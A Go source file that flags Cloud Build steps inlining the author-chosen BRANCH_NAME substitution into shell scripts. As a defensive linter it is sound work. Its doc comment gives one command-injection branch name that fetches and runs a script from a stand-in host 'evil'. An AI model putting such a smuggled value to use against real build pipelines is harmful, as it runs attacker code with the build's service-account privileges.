package subst

import (
	"fmt"
	"regexp"

	"cloud.google.com/go/cloudbuild/apiv1/v2/cloudbuildpb"
)

// AuthorChosen are the built-in substitutions whose value the author of a pull request chooses:
// BRANCH_NAME is the pull request's head branch there (GITHUB_HEAD_REF).
var AuthorChosen = []string{"BRANCH_NAME"}

// shellFlag is a shell's option that makes the next argument a script: -c, alone or among
// others (-ec, -xc).
var shellFlag = regexp.MustCompile(`^-[a-z]*c[a-z]*$`)

// ShellInlined returns a warning for each place a step of b inlines an AuthorChosen substitution
// in a shell script: a step's script, or the argument after a shell's -c (the arguments after
// that one are the script's positional parameters, passed as they are). Cloud Build substitutes
// as text, so there a branch named `x;$(curl${IFS}evil|sh)` runs as code with the build's service
// account; the fix is to pass the value through the step's env and quote it. Escaped `$$`
// references are the shell's own variables and do not count.
func ShellInlined(b *cloudbuildpb.Build) []string {
	var warnings []string
	check := func(field, s string) {
		for _, p := range Params(s) {
			for _, k := range AuthorChosen {
				if p.Key == k {
					warnings = append(warnings, fmt.Sprintf("%s inlines $%s in a shell script: on a pull request it is the head branch, named by its author, and would run as code; pass it through the step's env (env: ['BRANCH=$%s'], then \"$$BRANCH\" in the script)", field, k, k))
				}
			}
		}
	}
	for i, st := range b.GetSteps() {
		if st.GetScript() != "" {
			check(fmt.Sprintf("steps[%d].script", i), st.GetScript())
		}
		args := st.GetArgs()
		for j := 1; j < len(args); j++ {
			if shellFlag.MatchString(args[j-1]) {
				check(fmt.Sprintf("steps[%d].args[%d]", i, j), args[j])
			}
		}
	}
	return warnings
}
